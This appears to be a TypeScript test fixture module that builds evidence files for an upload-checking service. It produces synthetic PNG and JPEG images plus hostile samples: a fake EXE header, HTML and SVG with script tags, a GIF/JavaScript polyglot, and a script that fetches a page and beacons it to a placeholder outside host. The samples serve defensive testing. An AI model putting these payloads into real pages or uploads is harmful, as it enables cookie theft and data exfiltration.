// Files as applicants bring them as evidence, and as somebody would who wants to break the office.

import { crc32, deflateSync } from "node:zlib";
import { build, onePage } from "./forged-pdfs.ts";

export interface PngOptions {
  readonly width?: number;
  readonly height?: number;
  /** Instead of the image's lines. */
  readonly lines?: Uint8Array;
  /** Before IDAT. */
  readonly extra?: readonly Uint8Array[];
}

export function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const chunk = Buffer.alloc(body.length + 8);
  chunk.writeUInt32BE(data.length);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), body.length + 4);
  return new Uint8Array(chunk);
}

const PNG_SIGNATURE = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);

/** Colour, 8 bits: something that looks like a card. */
function cardLines(width: number, height: number): Uint8Array {
  const lines = Buffer.alloc(height * (1 + 3 * width));
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const isPhoto = x < width * 0.35 && x > width * 0.06 && y > height * 0.2 && y < height * 0.85;
      const isLine = x > width * 0.42 && x < width * 0.9 && y % 40 < 10 && y > height * 0.2;
      const [r, g, b] = isPhoto ? [190, 150, 120] : isLine ? [40, 50, 70] : [205 + (x / width) * 40, 225, 245 - (y / height) * 40];
      lines.set([r ?? 0, g ?? 0, b ?? 0], y * (1 + 3 * width) + 1 + 3 * x);
    }
  }
  return new Uint8Array(lines);
}

export function png({ width = 640, height = 400, lines, extra = [] }: PngOptions = {}): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const image = deflateSync(lines ?? cardLines(width, height));
  const chunks = [pngChunk("IHDR", header), ...extra, pngChunk("IDAT", image), pngChunk("IEND", new Uint8Array(0))];
  return new Uint8Array(Buffer.concat([PNG_SIGNATURE, ...chunks]));
}

const segment = (marker: number, data: readonly number[]): number[] => [
  0xff,
  marker,
  (data.length + 2) >> 8,
  (data.length + 2) & 0xff,
  ...data,
];

export interface JpegOptions {
  readonly width?: number;
  readonly height?: number;
  /** C0 baseline, C9 arithmetic … */
  readonly frame?: number;
  readonly scans?: number;
  /** Instead of what the scan should have. */
  readonly codedBytes?: number;
}

/** One grey: both Huffman tables have a single code of one bit, «no difference» and «end of block». */
export function jpeg({ width = 640, height = 400, frame = 0xc0, scans = 1, codedBytes }: JpegOptions = {}): Uint8Array {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const coded = new Array<number>(codedBytes ?? Math.ceil((blocks * 2) / 8)).fill(0);
  const counts = [1, ...new Array<number>(15).fill(0)];
  const scan = [...segment(0xda, [1, 1, 0x00, 0, 63, 0]), ...coded];
  return Uint8Array.from([
    0xff,
    0xd8,
    ...segment(0xe0, [0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
    ...segment(0xdb, [0, ...new Array<number>(64).fill(1)]),
    ...segment(frame, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0]),
    ...segment(0xc4, [0x00, ...counts, 0]),
    ...segment(0xc4, [0x10, ...counts, 0]),
    ...Array.from({ length: scans }, () => scan).flat(),
    0xff,
    0xd9,
  ]);
}

export const pdf = (): Uint8Array => build(onePage());

const latin = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));
export const joined = (...parts: readonly Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));

/** An archive without a file in it: its end is all that programs look for. */
export const ZIP = joined(latin("PK\u0003\u0004"), new Uint8Array(26), latin("PK\u0005\u0006"), new Uint8Array(18));
export const EXE = joined(latin("MZ"), new Uint8Array(58), Uint8Array.of(0x40, 0, 0, 0), latin("PE\0\0"), new Uint8Array(400));
export const HTML = latin("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>");
export const SCRIPT = latin(
  "fetch('/search').then((answer) => answer.text()).then((text) => navigator.sendBeacon('https://elsewhere.example', text));",
);
export const SVG = latin('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
export const GIF = latin("GIF89a=1//\0\0\0\0;alert(1);");
